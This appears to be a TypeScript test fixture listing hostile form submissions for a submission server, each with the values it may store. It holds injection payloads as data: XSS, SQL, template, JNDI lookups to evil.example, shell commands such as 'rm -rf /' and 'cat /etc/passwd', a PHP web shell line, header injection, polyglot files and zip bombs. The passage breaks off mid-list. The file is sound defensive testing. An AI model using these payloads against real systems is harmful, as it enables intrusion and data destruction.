// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these texts are meant to look like templates
// Forms that browsers never send: a table of attacks, and what of each may be stored.

import { createHash, randomUUID } from 'node:crypto'
import { deflateRawSync, gzipSync } from 'node:zlib'
import type { Form } from '@/shared/submissions/forms'
import { EICAR } from '../services/clamd'
import { APPLICATION, COMPLAINT, CONTACT, type SubmissionInput } from './post-submission'

export interface MaliciousForm {
  name: string
  sending: SubmissionInput
  /** Values of the stored submission; null: nothing may be stored. */
  stores: Record<string, unknown> | null
  /** Names under which its files are shown. */
  files?: string[]
}

type Fields = Record<string, string>
const text = (value: string): Uint8Array<ArrayBuffer> => new TextEncoder().encode(value)
const joined = (...parts: (string | Uint8Array)[]): Uint8Array<ArrayBuffer> =>
  Uint8Array.from(
    Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part))),
  )
const short = (value: string) => JSON.stringify(value.length > 48 ? `${value.slice(0, 45)}…` : value)

const PDF = '%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\nstartxref\n0\n%%EOF'
const PNG = Uint8Array.from(
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    'base64',
  ),
)
const JPEG = Uint8Array.from(
  Buffer.from(
    '/9j/2wBDABsSFBcUERsXFhceHBsgKEIrKCUlKFE6PTBCYFVlZF9VXVtqeJmBanGQc1tdhbWGkJ6jq62rZ4C8ybqmx5moq6T/2wBDARweHigjKE4rK06kbl1upKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKT/wAARCAACAAIDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAT/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFQEBAQAAAAAAAAAAAAAAAAAABAb/xAAUEQEAAAAAAAAAAAAAAAAAAAAA/9oADAMBAAIRAxEAPwCAANSP/9k=',
    'base64',
  ),
)

/** Returns a contact form with some fields changed. By default the changed values are expected to be stored. */
function contact(name: string, fields: Fields, stores: MaliciousForm['stores'] = fields): MaliciousForm {
  return { name, sending: { fields: { ...CONTACT, ...fields } }, stores }
}

// ---- texts that other programs could interpret as commands: they are stored unchanged, as text

const COMMANDS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '</title><script>alert(1)</script>',
  '</textarea><iframe src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">here</a>',
  '<style>body{display:none}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '[here](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  'https://evil.example/?a=1&b=2',
  'javascript:alert(document.cookie)',
  'data:text/html;base64,PHNjcmlwdD4=',
  '{{7*7}}',
  '{{constructor.constructor("return process")()}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% raw %}{{x}}{% endraw %}',
  '@{7*7}',
  '{number}',
  "'; drop table contact_letters; --",
  "' or '1'='1",
  '1; select pg_sleep(10)',
  "\\'; select 1; --",
  '$$; select 1; $$',
  ':name = $1',
  '*)(uid=*))(|(uid=*',
  'cn=admin,dc=example',
  '${jndi:ldap://evil.example/a}',
  '${${lower:j}ndi:ldap://evil.example/a}',
  '; rm -rf / #',
  '$(reboot)',
  '`id`',
  '| cat /etc/passwd',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","here")',
  '=IMPORTXML("https://evil.example","//a")',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<?php system("id"); ?>',
  '{"$ne": null}',
  '{"__proto__": {"admin": true}}',
  '[[object Object]]',
  'null',
  'undefined',
  'NaN and nothing else',
  '%s%s%s%n%n%n',
  '%00%0d%0aBcc: eve@example.com',
  '=?utf-8?q?=42=63=63=3A?=',
  'To: eve@example.com',
  '.\nQUIT',
].map((command) =>
  contact(`the text ${short(command)}`, {
    title: command.replace(/\s+/g, ' '),
    message: `Poruka:\n${command}`,
    company: command.replace(/\s+/g, ' '),
    name: command.replace(/\s+/g, ' '),
  }),
)

// ---- invisible characters

const UNSEEN_SIGNS = /[\p{Cc}\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]/gu
const KEPT = '\t\n'
const HALF_A_PAIR = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g

/** Repeats independently what the form's schema makes of a text with several lines. */
function neutral(sent: string): string {
  return sent
    .replace(HALF_A_PAIR, '\ufffd')
    .normalize('NFC')
    .replace(/\r\n?|[\u2028\u2029]/g, '\n')
    .replace(UNSEEN_SIGNS, (sign) => (KEPT.includes(sign) ? sign : ''))
    .trim()
}

const UNSEEN = (
  [
    ['a line end and a header', 'Upit\r\nBcc: eve@example.com', 'Upit Bcc: eve@example.com'],
    ['a line feed and a header', 'Upit\nBcc: eve@example.com', 'Upit Bcc: eve@example.com'],
    ['a carriage return and a header', 'Upit\rBcc: eve@example.com', 'Upit Bcc: eve@example.com'],
    ['two line ends and a body', 'Upit\r\n\r\n<html>', 'Upit <html>'],
    ['a folded header', 'Upit\r\n\tBcc: eve@example.com', 'Upit Bcc: eve@example.com'],
    ['a NUL', 'Up\0it', 'Upit'],
    ['many NULs', `Upit${'\0'.repeat(50)}`, 'Upit'],
    ['bells and escapes', 'Up\x07it\x1b[31m crven', 'Upit[31m crven'],
    ['backspaces', 'Upit\b\b\b\bLaž', 'UpitLaž'],
    ['a DEL', 'Up\x7fit', 'Upit'],
    ['C1 controls', 'Up\x80\x9bit\x85', 'Upit'],
    ['a vertical tab and a form feed', 'Prvi\vdrugi\ftreći', 'Prvi drugi treći'],
    ['Unicode’s line ends', 'Prvi\u2028drugi\u2029treći', 'Prvi drugi treći'],
    ['a word that turns the direction', 'račun\u202egpj.exe', 'račungpj.exe'],
    ['embedded directions', '\u202a\u202b\u202d\u202cUpit', 'Upit'],
    ['isolated directions', '\u2066\u2067\u2068Upit\u2069', 'Upit'],
    ['direction marks', 'Up\u200eit\u200f\u061c', 'Upit'],
    ['the mark of a file’s beginning', '\ufeffUpit', 'Upit'],
    ['spaces of all widths around it', '\u00a0\u2003\u3000Upit\u2009', 'Upit'],
    ['tabs', '\tUpit\to\tcijeni', 'Upit o cijeni'],
    ['letters and accents apart', 'C\u030cesto pitanje', 'Često pitanje'],
    ['half a pair of signs', 'Upit \ud800 kraj', 'Upit \ufffd kraj'],
    ['the other half', 'Upit \udc00 kraj', 'Upit \ufffd kraj'],
    ['a pair the wrong way round', 'Upit \udc00\ud800', 'Upit \ufffd\ufffd'],
    ['signs that are no signs', 'Upit \ufffe\uffff', 'Upit \ufffe\uffff'],
    ['accents that pile up', `U${'\u0301'.repeat(40)}pit`, `\u00da${'\u0301'.repeat(39)}pit`],
    ['an emoji of many parts', 'Upit 👩‍👩‍👧‍👦', 'Upit 👩‍👩‍👧‍👦'],
  ] as const
).flatMap(([name, sent, kept]) => [
  contact(`in a line: ${name}`, { title: sent, company: sent }, { title: kept, company: kept }),
  {
    ...contact(`in a text: ${name}`, { message: `Prije toga.${sent}` }, {}),
    stores: { message: neutral(`Prije toga.${sent}`) },
  },
])

// ---- addresses and numbers

const ADDRESSES = [
  ...[
    'ana@example.com\r\nBcc: eve@example.com',
    'ana@example.com\nBcc: eve@example.com',
    'ana@example.com%0aBcc:eve@example.com',
    'ana@example.com, eve@example.com',
    'ana@example.com;eve@example.com',
    'ana@example.com eve@example.com',
    'Ana <ana@example.com>',
    '<ana@example.com>',
    '"ana"@example.com>',
    'ana@example.com(comment)',
    'ana@[127.0.0.1]',
    'ana@localhost',
    'ana@-example.com',
    'ana@@example.com',
    '@example.com',
    'ana@',
    'ana',
    'ana@exam\u202eple.com.evil@x',
    '<script>@example.com',
    "ana'--@ex'ample.com",
    `${'a'.repeat(255)}@example.com`,
    'mailto:ana@example.com',
    'ana@example.com?cc=eve@example.com',
    '|/bin/sh@example.com',
  ].map((email) => contact(`the address ${short(email)}`, { email }, null)),
  ...['12', 'call me', '+385 91 <script>', '091\nBcc', "' or 1=1", '1'.repeat(41), '+++++', '٠٩١٢٣٤٥'].map(
    (phone) => contact(`the number ${short(phone)}`, { phone }, null),
  ),
]

// ---- sizes

const many = (count: number, name: (index: number) => string, value = 'x') =>
  Object.fromEntries(Array.from({ length: count }, (_, index) => [name(index), value]))

const SIZES = [
  contact('a title at its limit', { title: 'a'.repeat(120) }),
  contact('a title beyond it', { title: 'a'.repeat(121) }, null),
  contact('a title of pictures at its limit', { title: '😀'.repeat(120) }),
  contact('a title of nothing but spaces', { title: ' '.repeat(200) }, null),
  contact('a title of nothing but unseen signs', { title: '\u202e\u200f\0'.repeat(20) }, null),
  contact('a text at its limit', { message: 'ž'.repeat(5000) }),
  contact('a text beyond it', { message: 'ž'.repeat(5001) }, null),
  contact('a text of 60 KB', { message: 'a'.repeat(60_000) }, null),
  contact('a text of 70 KB', { message: 'a'.repeat(70_000) }, null),
  contact('a text of 5 MB', { message: 'a'.repeat(5_000_000) }, null),
  contact('a text of line ends', { message: '\n'.repeat(4000) }, null),
  contact('a company beyond its limit', { company: 'a'.repeat(121) }, null),
  contact('a name beyond its limit', { name: 'a'.repeat(121) }, null),
  contact(
    'thirty fields that nobody asked for',
    many(30, (index) => `extra${index}`),
    {},
  ),
  contact(
    'a hundred fields',
    many(100, (index) => `extra${index}`),
    null,
  ),
  contact(
    'ten thousand fields',
    many(10_000, (index) => `e${index}`),
    null,
  ),
  contact('the name of a field of 5 KB', { ['n'.repeat(5000)]: 'x' }, {}),
  contact(
    'forty fields of 60 KB',
    many(30, (index) => `extra${index}`, 'a'.repeat(60_000)),
    {},
  ),
]

// ---- names of fields that programs mishandle

const NAMES = [
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'hasOwnProperty',
    'toString',
    '__proto__[admin]',
    'constructor[prototype][admin]',
    'then',
    'id',
    'createdAt',
    'state',
    'owner',
    'caseNumber',
    'submissionKey',
    'secretDigest',
    'history',
    'notes',
    'consent[text]',
    'files',
    '_method',
    'locale[]',
    '',
  ].map((name) =>
    contact(`a field named ${short(name)}`, { [name]: 'closed' }, { title: CONTACT.title, state: 'new' }),
  ),
  ...['title[]', 'title[0]', 'title[a][b]', 'Title', 'TITLE', 'title ', 'title\0', 'ｔitle'].map((name) => {
    const { title, ...others } = CONTACT
    return {
      name: `the title as ${short(name)}`,
      sending: { fields: { ...others, [name]: title } },
      stores: null,
    }
  }),
]

// ---- choices

const CHOICES: MaliciousForm[] = [
  ...['HR', 'hr-HR', 'xx', '__proto__', 'hr\0', '../hr', '', 'constructor'].map((locale) =>
    contact(`the language ${short(locale)}`, { locale }, { locale: 'hr' }),
  ),
  ...['x', '__proto__', "' or 1=1", '0', '../../', 'a'.repeat(65)].map((topic) =>
    contact(`the topic ${short(topic)}`, { topic }, null),
  ),
  ...[
    '-1',
    '1e3',
    '999999999',
    'abc',
    '',
    ' 0',
    '0x0',
    '00',
    '٠',
    '0; drop table',
    '1'.repeat(30),
    'Infinity',
    '1.5',
  ].map((consentVersion) => contact(`the consent ${short(consentVersion)}`, { consentVersion }, null)),
  ...['', 'off', 'true', '1', 'yes', 'ON', '[object Object]'].map((consent) =>
    contact(`the tick ${short(consent)}`, { consent }, null),
  ),
  ...[
    'https://evil.example/',
    '//evil.example',
    '/\\evil.example',
    'javascript:alert(1)',
    '/a\r\nSet-Cookie: a=b',
    '/\t/evil.example',
    '/.//evil.example',
    `/${'a'.repeat(3000)}`,
    'kontakt',
    '\0/kontakt',
  ].map((page) => contact(`the page ${short(page)}`, { page }, { page: '' })),
  ...['x', '', 'Master', 'master ', '__proto__', 'master,doctorate', '0'].map((education) => ({
    name: `the education ${short(education)}`,
    sending: { form: 'application' as Form, fields: { ...APPLICATION, education } },
    stores: null,
  })),
  ...[
    'nowhere',
    '../admin',
    '..',
    '.',
    '%2e%2e',
    'a/b',
    "' or 1=1 --",
    'a\0b',
    'a'.repeat(101),
    'A'.repeat(5000),
    '{{7*7}}',
    '<script>',
    '\r\nSet-Cookie: a=b',
    'http://evil.example',
  ].map((position) => ({
    name: `the position ${short(position)}`,
    sending: { form: 'application' as Form, fields: { ...APPLICATION, position } },
    stores: null,
  })),
  {
    name: 'the position of a contact',
    sending: { fields: { ...CONTACT, position: '../admin' } },
    stores: { title: CONTACT.title },
  },
  {
    name: 'a secret that somebody wants for a complaint',
    sending: {
      form: 'complaint',
      fields: { ...COMPLAINT, secret: 'AAAA', secretDigest: 'x', caseNumber: 'R-26-AAAAA' },
    },
    stores: { description: COMPLAINT.description, caseNumber: isOurNumber },
  },
  ...['not-a-uuid', '00000000-0000-0000-0000-00000000000', "' or 1=1", '\0', 'a'.repeat(10_000)].map((key) =>
    contact(
      `the key ${short(key)}`,
      { key, title: `Ključ ${createHash('md5').update(key).digest('hex')}` },
      {},
    ),
  ),
]

/** Tells whether the value is a case number of ours. */
function isOurNumber(value: unknown): boolean {
  return typeof value === 'string' && value !== 'R-26-AAAAA' && /^R-\d\d-[0-9A-Z]{5}$/.test(value)
}

// ---- malformed or manipulative multipart bodies

const BOUNDARY = 'kovina-boundary'
const part = (name: string, value: string, head = '') =>
  `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"${head}\r\n\r\n${value}\r\n`
const good = Object.entries(CONTACT).map(([name, value]) => part(name, Buffer.from(value).toString('latin1')))
const END = `--${BOUNDARY}--\r\n`
const filePart = (name: string, bytes: string, field = 'files') =>
  `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${field}"; ${name}\r\nContent-Type: application/pdf\r\n\r\n${bytes}\r\n`

function raw(
  name: string,
  body: string | Uint8Array<ArrayBuffer>,
  more: Partial<MaliciousForm> & { type?: string } = {},
): MaliciousForm {
  const { type = `multipart/form-data; boundary=${BOUNDARY}`, stores = null, ...others } = more
  const sending: SubmissionInput = {
    body: typeof body === 'string' ? joined(body) : body,
    headers: type ? { 'content-type': type } : {},
  }
  return { name, sending, stores, ...others }
}

const whole = good.join('')
const STORED = { title: CONTACT.title, message: CONTACT.message }
const MULTIPART: MaliciousForm[] = [
  raw('a form written by hand', whole + END, { stores: STORED }),
  raw('no boundary named', whole + END, { type: 'multipart/form-data' }),
  raw('an empty boundary', whole + END, { type: 'multipart/form-data; boundary=' }),
  raw('another boundary', whole + END, { type: 'multipart/form-data; boundary=other' }),
  raw('a boundary in quotes', whole + END, {
    type: `multipart/form-data; boundary="${BOUNDARY}"`,
    stores: STORED,
  }),
  raw('a boundary of 5 KB', whole + END, { type: `multipart/form-data; boundary=${'b'.repeat(5000)}` }),
  raw('a boundary of two', whole + END, { type: `multipart/form-data; boundary=x; boundary=${BOUNDARY}` }),
  raw('no end', whole),
  raw('no end, and a file that is cut', whole + filePart('filename="a.pdf"', PDF).slice(0, -20)),
  raw(
    'a file that is cut in its first byte',
    `${whole}--${BOUNDARY}\r\nContent-Disposition: form-data; name="files"; filename="a.pdf"\r\n\r\n%`,
  ),
  raw('a head that is cut', `${whole}--${BOUNDARY}\r\nContent-Disposition: form-da`),
  raw('a field that is cut', whole.slice(0, -10)),
  raw('nothing but an end', END),
  raw('nothing but a boundary', `--${BOUNDARY}`),
  raw('nothing', ''),
  raw('noise before and after', `noise\r\n${whole}${END}noise`, { stores: STORED }),
  raw('line feeds only', (whole + END).replaceAll('\r\n', '\n')),
  raw('a part without a head', `--${BOUNDARY}\r\n\r\nx\r\n${whole}${END}`),
  raw('a part without a name', `--${BOUNDARY}\r\nContent-Disposition: form-data\r\n\r\nx\r\n${whole}${END}`, {
    stores: STORED,
  }),
  raw(
    'a part that is no form data',
    `--${BOUNDARY}\r\nContent-Disposition: attachment; name="title"\r\n\r\nx\r\n${whole}${END}`,
    { stores: STORED },
  ),
  raw('a head of 100 KB', `--${BOUNDARY}\r\nX-Long: ${'x'.repeat(100_000)}\r\n\r\nx\r\n${whole}${END}`),
  raw(
    'a hundred heads',
    `--${BOUNDARY}\r\n${'X-More: x\r\n'.repeat(100)}Content-Disposition: form-data; name="x"\r\n\r\nx\r\n${whole}${END}`,
    { stores: STORED },
  ),
  raw('a head without a colon', `--${BOUNDARY}\r\nnonsense\r\n\r\nx\r\n${whole}${END}`),
  raw(
    'a folded head',
    `--${BOUNDARY}\r\nContent-Disposition: form-data;\r\n name="x"\r\n\r\nx\r\n${whole}${END}`,
    { stores: STORED },
  ),
  raw(
    'a form in a form',
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="x"\r\nContent-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\n\r\nz\r\n--y--\r\n${whole}${END}`,
    { stores: STORED },
  ),
  raw(
    'two dispositions',
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="x"\r\nContent-Disposition: form-data; name="title"\r\n\r\nother\r\n${whole}${END}`,
    { stores: STORED },
  ),
  raw(
    'two names',
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="x"; name="y"\r\n\r\nother\r\n${whole}${END}`,
    { stores: STORED },
  ),
  raw(
    'another encoding named',
    part('title', 'VXBpdA==', '\r\nContent-Transfer-Encoding: base64') + whole + END,
    { stores: { title: 'VXBpdA==' } },
  ),
  raw(
    'UTF-16 named',
    part('title', 'U\0p\0i\0t\0', '\r\nContent-Type: text/plain; charset=utf-16le') + whole + END,
    { stores: { title: 'Upit' } },
  ),
  raw(
    'a charset that nobody knows',
    part('title', 'Upit', '\r\nContent-Type: text/plain; charset=klingon') + whole + END,
  ),
  raw('bytes that are no UTF-8', part('title', 'Upit \xff\xfe\xc0\xaf') + whole + END, {
    stores: { title: 'Upit \ufffd\ufffd\ufffd\ufffd' },
  }),
  raw('the same field twice', part('title', 'Prvi naslov') + whole + END, {
    stores: { title: 'Prvi naslov' },
  }),
  raw('the tick twice', part('consent', 'off') + whole + END),
  raw('the title as a file', whole.replace('name="title"', 'name="title"; filename="t.txt"') + END),
  raw(
    'the title as bytes',
    whole.replace('name="title"', 'name="title"\r\nContent-Type: application/octet-stream') + END,
  ),
  raw('a file in a field of its own', `${whole}${filePart('filename="a.pdf"', PDF, 'other')}${END}`),
  raw(
    'a file in a field without a name',
    `${whole}--${BOUNDARY}\r\nContent-Disposition: form-data; filename="a.pdf"\r\n\r\n${PDF}\r\n${END}`,
  ),
  raw('a NUL in the name of a file', `${whole}${filePart('filename="a.pdf\0.exe"', PDF)}${END}`),
  raw('a file field that nobody touched', `${whole}${filePart('filename=""', '')}${END}`, {
    stores: STORED,
    files: [],
  }),
  raw('the boundary inside a text', part('title', `Upit --${BOUNDARY} kraj`) + whole + END, {
    stores: { title: `Upit --${BOUNDARY} kraj` },
  }),
  raw('parts without end', `${`--${BOUNDARY}\r\n\r\n\r\n`.repeat(3000)}${whole}${END}`),
  raw('a thousand files', `${filePart('filename="a.pdf"', PDF).repeat(1000)}${whole}${END}`),
]

// ---- other kinds of bodies

const urlencoded = (fields: Fields) => new URLSearchParams(fields).toString()
const FORM_TYPE = 'application/x-www-form-urlencoded'
const TYPES: MaliciousForm[] = [
  raw('a form without files', urlencoded(CONTACT), { type: FORM_TYPE, stores: STORED }),
  raw('a charset of its own', urlencoded(CONTACT), { type: `${FORM_TYPE}; charset=utf-16` }),
  raw('JSON', JSON.stringify(CONTACT), { type: 'application/json' }),
  raw('JSON that says to be a form', JSON.stringify(CONTACT), { type: FORM_TYPE }),
  raw('JSON in a multipart form', JSON.stringify(CONTACT)),
  raw('a text', urlencoded(CONTACT), { type: 'text/plain' }),
  raw('XML', '<contact><title>x</title></contact>', { type: 'application/xml' }),
  raw('multipart of another kind', whole + END, { type: `multipart/mixed; boundary=${BOUNDARY}` }),
  raw('a type that is none', whole + END, { type: 'nonsense' }),
  raw('a type that only looks like one', whole + END, { type: `multipart/form-dataX; boundary=${BOUNDARY}` }),
  raw('escapes that are none', 'title=%&message=%zz%E0%A4&consent=on&consentVersion=0', { type: FORM_TYPE }),
  raw('a NUL in its escapes', `${urlencoded({ ...CONTACT, title: '' }).replace('title=', 'title=Up%00it')}`, {
    type: FORM_TYPE,
    stores: { title: 'Upit' },
  }),
  raw(
    'an overlong escape',
    `${urlencoded({ ...CONTACT, title: '' }).replace('title=', 'title=Upit%C0%AF')}`,
    { type: FORM_TYPE, stores: { title: 'Upit\ufffd\ufffd' } },
  ),
  raw('ampersands only', '&'.repeat(100_000), { type: FORM_TYPE }),
  raw('equals signs only', '='.repeat(100_000), { type: FORM_TYPE }),
  raw('a key of 200 KB', `${'k'.repeat(200_000)}=x&${urlencoded(CONTACT)}`, { type: FORM_TYPE }),
  raw('gzip', joined(gzipSync(whole + END))),
  raw('gzip that says to be a form', joined(gzipSync(urlencoded(CONTACT))), { type: FORM_TYPE }),
].map((row) =>
  row.name.startsWith('gzip')
    ? { ...row, sending: { ...row.sending, headers: { ...row.sending.headers, 'content-encoding': 'gzip' } } }
    : row,
)

// ---- files

const withFile = (
  name: string,
  fileName: string,
  bytes: Uint8Array<ArrayBuffer>,
  shown: string | null,
  form: Form = 'contact',
): MaliciousForm => ({
  name,
  sending: {
    form,
    ...(form === 'application' && { fields: APPLICATION }),
    files: [{ name: fileName, bytes }],
  },
  stores: shown === null ? null : {},
  ...(shown !== null && { files: [shown] }),
})

const FILE_NAMES = (
  [
    ['../../../etc/passwd.pdf', 'passwd.pdf'],
    ['..\\..\\windows\\system.pdf', 'system.pdf'],
    ['/etc/cron.d/job.pdf', 'job.pdf'],
    ['C:\\autoexec.pdf', 'autoexec.pdf'],
    ['....//....//a.pdf', 'a.pdf'],
    ['a.pdf\r\nContent-Type: text/html', null],
    ['račun\u202efdp.exe', 'računfdp.pdf'],
    ['\u200b\u200b.pdf', '.pdf'],
    ['.htaccess', 'file.pdf'],
    ['-rf.pdf', '-rf.pdf'],
    ['CON.pdf', 'CON.pdf'],
    ['a.pdf.exe', 'a.pdf.pdf'],
    ['<img src=x onerror=alert(1)>.pdf', '<img src=x onerror=alert(1)>.pdf'],
    ['=1+1.pdf', '=1+1.pdf'],
    ["'; drop table attachments; --.pdf", "'; drop table attachments; --.pdf"],
    ['${jndi:ldap://evil.example/a}.pdf', 'a}.pdf'],
    ['%2e%2e%2fa.pdf', '%2e%2e%2fa.pdf'],
    ['😀.pdf', '😀.pdf'],
    ['..', 'file.pdf'],
    ['   ', 'file.pdf'],
    ['a'.repeat(10_000), `${'a'.repeat(116)}.pdf`],
  ] as const
).map(([name, shown]) =>
  shown === null
    ? { ...withFile(`the file name ${short(name)}`, name, text(PDF), 'file'), files: undefined, stores: {} }
    : withFile(`the file name ${short(name)}`, name, text(PDF), shown),
)

const RAW_FILE_NAMES = (
  [
    ["filename*=UTF-8''..%2F..%2Fa.pdf", 'a.pdf'],
    ["filename*=UTF-8''%E0%A4%A.pdf", undefined],
    ["filename*=klingon''a.pdf", undefined],
    ['filename="a.pdf"; filename*=UTF-8\'\'b.pdf', 'b.pdf'],
    ['filename="a.pdf"; filename="../b.pdf"', undefined],
    ['filename=a.pdf', 'a.pdf'],
    ['filename=../a.pdf', undefined],
    ['filename="a\\".pdf"', 'a".pdf'],
    ['filename="a%0d%0a.pdf"', 'a%0d%0a.pdf'],
  ] as const
).map(([head, shown]) =>
  raw(`the file head ${short(head)}`, whole + filePart(head, PDF) + END, {
    stores: STORED,
    ...(shown !== undefined && { files: [shown] }),
  }),
)

/** Makes a ZIP with one entry, which claims this size after decompression. */
function zipOf(name: string, content: Uint8Array, claimed = content.length): Uint8Array<ArrayBuffer> {
  const compressed = deflateRawSync(content)
  const head = Buffer.alloc(30)
  head.write('PK\x03\x04', 0, 'latin1')
  head.writeUInt16LE(20, 4)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(compressed.length, 18)
  head.writeUInt32LE(claimed >>> 0, 22)
  head.writeUInt16LE(name.length, 26)
  return joined(head, name, compressed)
}

const BOMB = Buffer.alloc(64 * 1024 * 1024, ' ')
const WORD_TYPES =
  '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'

const FILES: MaliciousForm[] = [
  ...FILE_NAMES,
  ...RAW_FILE_NAMES,
  withFile('a PDF with a page behind it', 'a.pdf', joined(PDF, '<script>alert(1)</script>'), 'a.pdf'),
  withFile(
    'a PDF with a script of its own',
    'a.pdf',
    joined(PDF.replace('<<>>', '<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>')),
    'a.pdf',
  ),
  withFile('a PDF with a ZIP behind it', 'a.pdf', joined(PDF, zipOf('a.txt', text('x'))), 'a.pdf'),
  withFile('a PDF with a known virus', 'a.pdf', joined(PDF, EICAR), 'a.pdf'),
  withFile('a PNG with a script behind it', 'a.png', joined(PNG, '<script>alert(1)</script>'), 'a.png'),
  withFile('a PNG with PHP behind it', 'a.php', joined(PNG, '<?php system($_GET[0]); ?>'), 'a.png'),
  withFile(
    'a JPEG with a page behind it',
    'a.html',
    joined(JPEG, '<!doctype html><script>alert(1)</script>'),
    'a.jpg',
  ),
  withFile('a JPEG of nothing but its head', 'a.jpg', JPEG.slice(0, 30), null),
  withFile('a PNG of nothing but its head', 'a.png', PNG.slice(0, 12), null),
  withFile(
    'a drawing with a page behind it',
    'a.step',
    joined('ISO-10303-21;\nHEADER;\n<script>alert(1)</script>'),
    'a.step',
  ),
  withFile(
    'a page that says to be a drawing further on',
    'a.step',
    text('<script>1</script>\nISO-10303-21;'),
    null,
  ),
  withFile('a page before a PDF', 'a.pdf', joined('<script>alert(1)</script>', PDF), null),
  withFile('a page', 'a.pdf', text('<!doctype html><script>alert(1)</script>'), null),
  withFile('an SVG', 'a.png', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), null),
  withFile('an SVG after a comment', 'a.png', text('<!-- x --><?xml version="1.0"?><svg/>'), null),
  withFile('a program for Windows', 'a.pdf', joined('MZ\x90\0\x03\0\0\0', 'x'.repeat(200)), null),
  withFile('a program for Linux', 'a.pdf', joined('\x7fELF\x02\x01\x01', '\0'.repeat(100)), null),
  withFile('a script', 'a.pdf', text('#!/bin/sh\nrm -rf /\n'), null),
  withFile('a known virus by itself', 'a.pdf', text(EICAR), null),
  withFile('a ZIP', 'a.pdf', zipOf('a.txt', text('x')), null),
  withFile('a GIF', 'a.png', joined('GIF89a\x01\0\x01\0\0\0\0;'), null),
  withFile('a WebP', 'a.png', joined('RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0/\0\0\0'), null),
  withFile('PostScript', 'a.pdf', text('%!PS-Adobe-3.0\n(x) run\n'), null),
  withFile('RTF', 'a.pdf', text('{\\rtf1\\ansi{\\object}}'), null),
  withFile(
    'an old Word file',
    'a.docx',
    joined('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', '\0'.repeat(600)),
    null,
    'application',
  ),
  withFile(
    'a Word file for a form that takes none',
    'a.pdf',
    zipOf('[Content_Types].xml', text(WORD_TYPES)),
    null,
  ),
  withFile(
    'a ZIP that decompresses to 64 MB',
    'a.docx',
    zipOf('[Content_Types].xml', BOMB),
    null,
    'application',
  ),
  withFile(
    'a ZIP that lies about its size',
    'a.docx',
    zipOf('[Content_Types].xml', BOMB, 10),
    null,
    'application',
  ),
  withFile(
    'a ZIP that is cut',
    'a.docx',
    zipOf('[Content_Types].xml', text(WORD_TYPES)).slice(0, 40),
    null,
    'application',
  ),
  withFile(
    'a ZIP in a ZIP',
    'a.docx',
    zipOf('a.docx', zipOf('[Content_Types].xml', BOMB)),
    null,
    'application',
  ),
  withFile('gzip in gzip', 'a.pdf', joined(gzipSync(gzipSync(BOMB))), null),
  withFile('an empty file', 'a.pdf', text(''), null),
  withFile('one byte', 'a.pdf', text('%'), null),
  withFile('NULs', 'a.pdf', new Uint8Array(1000), null),
  withFile(
    'a file of 10 MB and a byte',
    'a.pdf',
    joined(PDF, new Uint8Array(10 * 1024 * 1024 - PDF.length + 1)),
    null,
  ),
  {
    name: 'four files for a form of three',
    sending: { files: Array.from({ length: 4 }, (_, index) => ({ name: `${index}.pdf`, bytes: text(PDF) })) },
    stores: null,
  },
  {
    name: 'a good file and a bad one',
    sending: {
      files: [
        { name: 'a.pdf', bytes: text(PDF) },
        { name: 'b.pdf', bytes: text('MZ') },
      ],
    },
    stores: null,
  },
]

// ---- tickets, cookies and headers

/** Makes a form with tickets of uploads. The response must not make the sender believe that a missing file has arrived. */
const uploadTokens = (name: string, ...kept: string[]): MaliciousForm => {
  const body = new FormData()
  for (const [field, value] of Object.entries(CONTACT)) body.append(field, value)
  for (const ticket of kept) body.append('kept', ticket)
  return { name, sending: { body }, stores: null }
}
const headed = (
  name: string,
  headers: Record<string, string>,
  stores: MaliciousForm['stores'] = null,
): MaliciousForm => ({
  name,
  sending: { headers },
  stores,
})
const cookied = (name: string, cookies: Record<string, string>): MaliciousForm => ({
  name,
  sending: { cookies },
  stores: STORED,
})

const HEADS: MaliciousForm[] = [
  uploadTokens('a ticket that was made up', 'a'.repeat(64)),
  uploadTokens('a ticket of 60 KB', 'a'.repeat(60_000)),
  uploadTokens('a ticket of SQL', "' or 1=1 --"),
